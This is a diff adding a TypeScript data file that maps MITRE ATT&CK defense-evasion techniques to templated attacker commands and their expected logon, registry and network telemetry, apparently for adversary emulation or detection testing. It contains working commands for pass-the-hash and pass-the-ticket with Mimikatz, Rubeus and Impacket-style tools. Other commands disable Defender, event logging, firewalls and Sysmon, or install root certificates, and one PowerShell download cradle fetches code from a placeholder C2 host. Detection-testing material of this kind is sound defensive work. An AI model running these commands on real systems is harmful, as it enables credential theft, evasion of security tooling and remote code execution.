@@ -1,0 +1,354 @@
+import { t, v } from "../dsl";
+
+const DEFENDER = "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender";
+
+/** Defense evasion, continued: alternate authentication, trust controls, impairing defenses, hiding. */
+export const defenseEvasion3 = [
+  t("T1550", "Alternate authentication material", "Hashes or tickets used instead of passwords.", [
+    v(
+      "mimikatz-pth",
+      [
+        '{{tools}}\\mimikatz.exe "sekurlsa::pth /user:{{admin}} /domain:{{dns}} /ntlm:{{rand2}}{{rand2}}{{rand2}}{{rand2}} /run:cmd.exe" exit',
+      ],
+      { elevated: true },
+    ),
+  ]),
+  t(
+    "T1550.002",
+    "Pass the hash",
+    "NTLM hash reuse: Mimikatz sekurlsa::pth (logon type 9 with seclogo) and Impacket-style remote NTLM logons.",
+    [
+      v(
+        "mimikatz-pth",
+        [
+          {
+            cmd: '{{tools}}\\mimikatz.exe "privilege::debug" "sekurlsa::pth /user:{{admin}} /domain:{{domain}} /ntlm:{{rand2}}{{rand2}}{{rand2}}{{rand2}}" exit',
+            access: ["@lsass", "0x1038"],
+            then: [
+              {
+                id: "l",
+                kind: "logon",
+                session: "pth",
+                user: "@admin",
+                logonType: 9,
+                authPackage: "Negotiate",
+                proc: "@lsass",
+              },
+            ],
+          },
+        ],
+        { elevated: true },
+      ),
+      v("ntlm-network", [
+        {
+          cmd: "{{tools}}\\wmiexec.exe -hashes :{{rand2}}{{rand2}}{{rand2}}{{rand2}} {{domain}}/{{admin}}@{{srvip}}",
+          net: [["@server", 445]],
+          then: [
+            {
+              id: "l",
+              kind: "logon",
+              host: "@server",
+              session: "pthnet",
+              user: "@admin",
+              logonType: 3,
+              source: "@workstation",
+              authPackage: "NTLM",
+            },
+          ],
+        },
+      ]),
+      v(
+        "invoke-thehash",
+        [
+          {
+            ps: "Invoke-SMBExec -Target {{srvip}} -Domain {{domain}} -Username {{admin}} -Hash {{rand2}}{{rand2}}{{rand2}}{{rand2}} -Command 'whoami' -verbose",
+            net: [["@server", 445]],
+            then: [
+              {
+                id: "l",
+                kind: "logon",
+                host: "@server",
+                session: "pthsmb",
+                user: "@admin",
+                logonType: 3,
+                source: "@workstation",
+                authPackage: "NTLM",
+              },
+            ],
+          },
+        ],
+        { shell: "ps" },
+      ),
+    ],
+  ),
+  t("T1550.003", "Pass the ticket", "Kerberos tickets imported with Rubeus ptt or Mimikatz kerberos::ptt.", [
+    v("rubeus-ptt", [
+      {
+        cmd: "{{tools}}\\Rubeus.exe ptt /ticket:{{tmp}}\\{{admin}}.kirbi",
+        then: [
+          {
+            id: "tgs",
+            kind: "kerberos.tgs",
+            host: "@dc",
+            user: "@admin",
+            service: "@server",
+            source: "@workstation",
+          },
+        ],
+      },
+    ]),
+    v("mimikatz-ptt", [
+      '{{tools}}\\mimikatz.exe "kerberos::ptt {{tmp}}\\[0;3e7]-2-0-40e10000-{{admin}}@krbtgt-{{dns}}.kirbi" exit',
+      "klist",
+    ]),
+  ]),
+  t("T1553", "Subvert trust controls", "Trust settings weakened (root certificates, MOTW).", [
+    v("certutil-addstore", ["certutil -addstore -f Root {{tmp}}\\{{rand}}.cer"], { elevated: true }),
+  ]),
+  t("T1553.002", "Code signing", "A payload signed with a stolen certificate using signtool.", [
+    v("signtool", [
+      '"C:\\Program Files (x86)\\Windows Kits\\10\\bin\\10.0.22621.0\\x64\\signtool.exe" sign /f {{tmp}}\\stolen.pfx /p pass /t http://timestamp.digicert.com {{tmp}}\\{{name}}.exe',
+    ]),
+  ]),
+  t(
+    "T1553.003",
+    "SIP and trust provider hijacking",
+    "CryptSIPDllVerifyIndirectData pointed at a permissive DLL.",
+    [
+      v(
+        "reg-sip",
+        [
+          {
+            cmd: 'reg add "HKLM\\SOFTWARE\\Microsoft\\Cryptography\\OID\\EncodingType 0\\CryptSIPDllVerifyIndirectData\\{C689AAB8-8E78-11D0-8C47-00C04FC295EE}" /v Dll /t REG_SZ /d C:\\Windows\\System32\\{{rand}}.dll /f',
+            reg: [
+              [
+                "HKLM\\SOFTWARE\\Microsoft\\Cryptography\\OID\\EncodingType 0\\CryptSIPDllVerifyIndirectData\\{C689AAB8-8E78-11D0-8C47-00C04FC295EE}",
+                "Dll",
+                "C:\\Windows\\System32\\{{rand}}.dll",
+              ],
+            ],
+          },
+        ],
+        { elevated: true },
+      ),
+    ],
+  ),
+  t("T1553.004", "Install root certificate", "A root CA added with certutil or Import-Certificate.", [
+    v("certutil-addstore", ["certutil -addstore -f -enterprise Root {{tmp}}\\{{rand}}.cer"], {
+      elevated: true,
+    }),
+    v(
+      "import-certificate",
+      [
+        {
+          ps: "Import-Certificate -FilePath $env:TEMP\\{{rand}}.cer -CertStoreLocation Cert:\\LocalMachine\\Root",
+          reg: [
+            [
+              "HKLM\\SOFTWARE\\Microsoft\\SystemCertificates\\ROOT\\Certificates\\{{rand2}}{{rand2}}{{rand2}}{{rand2}}{{rand2}}",
+              "Blob",
+              "0300000001000000",
+              "REG_BINARY",
+            ],
+          ],
+        },
+      ],
+      { shell: "ps", elevated: true },
+    ),
+  ]),
+  t(
+    "T1553.005",
+    "Mark-of-the-web bypass",
+    "Payload delivered inside ISO/VHD containers, or Zone.Identifier removed.",
+    [
+      v(
+        "mount-iso",
+        [
+          { ps: 'Mount-DiskImage -ImagePath "$env:USERPROFILE\\Downloads\\{{rand}}.iso"' },
+          { cmd: "E:\\{{name}}.exe", parent: "@explorer" },
+        ],
+        { shell: "ps" },
+      ),
+      v("unblock-file", [{ ps: "Unblock-File -Path $env:USERPROFILE\\Downloads\\{{rand}}.exe" }], {
+        shell: "ps",
+      }),
+    ],
+  ),
+  t("T1553.006", "Code signing policy modification", "Driver signing enforcement disabled with bcdedit.", [
+    v("bcdedit-testsigning", ["bcdedit.exe /set TESTSIGNING ON", "bcdedit.exe /set nointegritychecks on"], {
+      elevated: true,
+    }),
+  ]),
+  t("T1562", "Impair defenses", "Security tooling weakened before the main action.", [
+    v("set-mppreference", [{ ps: "Set-MpPreference -DisableRealtimeMonitoring $true" }], {
+      shell: "ps",
+      elevated: true,
+    }),
+  ]),
+  t(
+    "T1562.001",
+    "Disable or modify tools",
+    "Defender disabled with Set-MpPreference, exclusions added, services stopped, policy keys set.",
+    [
+      v(
+        "set-mppreference",
+        [
+          {
+            ps: "Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true",
+          },
+        ],
+        { shell: "ps", elevated: true },
+      ),
+      v(
+        "add-exclusion",
+        [{ ps: "Add-MpPreference -ExclusionPath 'C:\\ProgramData', $env:TEMP -ExclusionExtension exe,dll" }],
+        { shell: "ps", elevated: true },
+      ),
+      v(
+        "reg-disableantispyware",
+        [
+          {
+            cmd: `reg add "${DEFENDER}" /v DisableAntiSpyware /t REG_DWORD /d 1 /f`,
+            reg: [[DEFENDER, "DisableAntiSpyware", "1", "REG_DWORD"]],
+          },
+        ],
+        { elevated: true },
+      ),
+      v(
+        "sc-stop",
+        [
+          "sc stop WinDefend",
+          "sc config WinDefend start= disabled",
+          'net stop "Sophos Endpoint Defense Service" /y',
+        ],
+        { elevated: true },
+      ),
+    ],
+  ),
+  t("T1562.002", "Disable Windows event logging", "auditpol and EventLog service tampering.", [
+    v(
+      "auditpol",
+      ['auditpol /set /category:"Logon/Logoff" /success:disable /failure:disable', "auditpol /clear /y"],
+      { elevated: true },
+    ),
+    v("sc-eventlog", ["sc config eventlog start= disabled", "net stop eventlog /y"], { elevated: true }),
+    v(
+      "reg-etw",
+      [
+        {
+          cmd: 'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\WMI\\Autologger\\EventLog-Security" /v Start /t REG_DWORD /d 0 /f',
+          reg: [
+            [
+              "HKLM\\SYSTEM\\CurrentControlSet\\Control\\WMI\\Autologger\\EventLog-Security",
+              "Start",
+              "0",
+              "REG_DWORD",
+            ],
+          ],
+        },
+      ],
+      { elevated: true },
+    ),
+  ]),
+  t("T1562.003", "Impair command history logging", "PSReadLine history disabled or set to nothing.", [
+    v("savenothing", [{ ps: "Set-PSReadLineOption -HistorySaveStyle SaveNothing" }], { shell: "ps" }),
+    v(
+      "scriptblocklogging-off",
+      [
+        {
+          cmd: 'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging" /v EnableScriptBlockLogging /t REG_DWORD /d 0 /f',
+          reg: [
+            [
+              "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging",
+              "EnableScriptBlockLogging",
+              "0",
+              "REG_DWORD",
+            ],
+          ],
+        },
+      ],
+      { elevated: true },
+    ),
+  ]),
+  t(
+    "T1562.004",
+    "Disable or modify system firewall",
+    "netsh advfirewall off, rules opened for RDP/SMB, Set-NetFirewallProfile.",
+    [
+      v("netsh-off", ["netsh advfirewall set allprofiles state off"], { elevated: true }),
+      v(
+        "netsh-rule",
+        [
+          'netsh advfirewall firewall add rule name="Remote Desktop" dir=in action=allow protocol=TCP localport=3389',
+        ],
+        { elevated: true },
+      ),
+      v(
+        "set-netfirewallprofile",
+        [{ ps: "Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False" }],
+        { shell: "ps", elevated: true },
+      ),
+    ],
+  ),
+  t("T1562.006", "Indicator blocking", "ETW providers or the Sysmon driver silenced.", [
+    v(
+      "logman-stop",
+      [
+        'logman update trace "EventLog-Application" --p "Microsoft-Windows-PowerShell" -ets',
+        "logman stop EventLog-Security -ets",
+      ],
+      { elevated: true },
+    ),
+    v("fltmc-unload", ["fltmc unload SysmonDrv"], { elevated: true }),
+  ]),
+  t("T1562.009", "Safe mode boot", "bcdedit safeboot set so security tools do not start (ransomware).", [
+    v(
+      "bcdedit-safeboot",
+      [
+        "bcdedit /set {default} safeboot network",
+        {
+          cmd: 'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\SafeBoot\\Network\\{{name}}" /ve /t REG_SZ /d Service /f',
+          reg: [
+            ["HKLM\\SYSTEM\\CurrentControlSet\\Control\\SafeBoot\\Network\\{{name}}", "(Default)", "Service"],
+          ],
+        },
+      ],
+      { elevated: true },
+    ),
+  ]),
+  t("T1562.010", "Downgrade attack", "PowerShell version 2 to avoid script block logging.", [
+    v("powershell-v2", [
+      "powershell.exe -version 2 -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://{{c2}}/a')\"",
+    ]),
+    v(
+      "ntlm-downgrade",
+      [
+        {
+          cmd: "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v LmCompatibilityLevel /t REG_DWORD /d 2 /f",
+          reg: [["HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa", "LmCompatibilityLevel", "2", "REG_DWORD"]],
+        },
+      ],
+      { elevated: true },
+    ),
+  ]),
+  t("T1562.011", "Spoof security alerting", "Security Center state faked via registry.", [
+    v(
+      "reg-wscsvc",
+      [
+        {
+          cmd: 'reg add "HKLM\\SOFTWARE\\Microsoft\\Security Center" /v AntiVirusDisableNotify /t REG_DWORD /d 1 /f',
+          reg: [["HKLM\\SOFTWARE\\Microsoft\\Security Center", "AntiVirusDisableNotify", "1", "REG_DWORD"]],
+        },
+      ],
+      { elevated: true },
+    ),
+  ]),
+  t("T1564", "Hide artifacts", "Files hidden with attrib +h +s.", [
+    v("attrib", ["attrib +h +s {{appdata}}\\{{name}}.exe"]),
+  ]),
+  t("T1564.001", "Hidden files and directories", "attrib +h +s on payloads and folders.", [
+    v("attrib-hs", ["attrib.exe +h +s {{appdata}}\\{{rand}}"]),
+    v("ps-attributes", [{ ps: "(Get-Item C:\\ProgramData\\{{rand}} -Force).Attributes = 'Hidden,System'" }], {
+      shell: "ps",
+    }),
+  ]),
+];
